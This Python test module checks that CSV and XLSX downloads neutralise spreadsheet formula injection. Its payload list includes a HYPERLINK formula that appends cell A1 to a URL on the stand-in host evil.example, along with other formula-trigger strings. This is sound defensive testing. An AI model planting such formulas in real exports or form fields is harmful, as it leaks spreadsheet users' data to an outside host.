"""Formula injection, checked from the outside: the texts a penetration tester types into
every field that reaches a CSV or XLSX download, and assertions on the downloaded bytes
as a spreadsheet program would read them.

``could_evaluate`` is written here on its own, not imported from ``core.exports``, so
the tests do not simply agree with the code they check."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

from openpyxl import load_workbook
from openpyxl.workbook import Workbook

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
# What a spreadsheet reads as the start of a formula (OWASP "CSV Injection").
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
# A plain number (a CSV field "-2"): a spreadsheet reads it as that number, nothing more.
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def could_evaluate(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula: its first character,
    or its first character after leading blanks, starts one, and it is not simply a
    signed number."""
    if not text or _NUMBER.fullmatch(text):
        return False
    return text[0] in _TRIGGERS or text.lstrip()[:1] in _TRIGGERS


def _guarded(texts: Iterable[str], payload: str) -> bool:
    """Some text is ``payload`` (as stored: a form or an import may have trimmed its
    blanks) behind the single quote that keeps it text."""
    core = payload.strip()
    return any(t.startswith("'") and t[1:].strip() == core for t in texts)


def assert_xlsx_inert(data: bytes, payloads: Iterable[str] = PAYLOADS) -> Workbook:
    """No cell of the workbook is a formula or text a spreadsheet could evaluate, and
    each of ``payloads`` is there as guarded text. Returns the workbook."""
    book = load_workbook(io.BytesIO(data))
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                where = f"{ws.title}!{cell.coordinate} = {cell.value!r}"
                assert cell.data_type != "f", where
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", where
                    assert not could_evaluate(cell.value), where
                    texts.append(cell.value)
    missing = [p for p in payloads if not _guarded(texts, p)]
    assert missing == [], f"not in the workbook as guarded text: {missing!r}"
    return book


def assert_csv_inert(text: str, payloads: Iterable[str] = PAYLOADS) -> list[list[str]]:
    """No field of the CSV could be evaluated, and each of ``payloads`` is there as
    guarded text. Returns the rows (header first)."""
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    fields = [field for row in rows for field in row]
    bad = [field for field in fields if could_evaluate(field)]
    assert bad == [], f"fields a spreadsheet could evaluate: {bad!r}"
    missing = [p for p in payloads if not _guarded(fields, p)]
    assert missing == [], f"not in the CSV as guarded text: {missing!r}"
    return rows
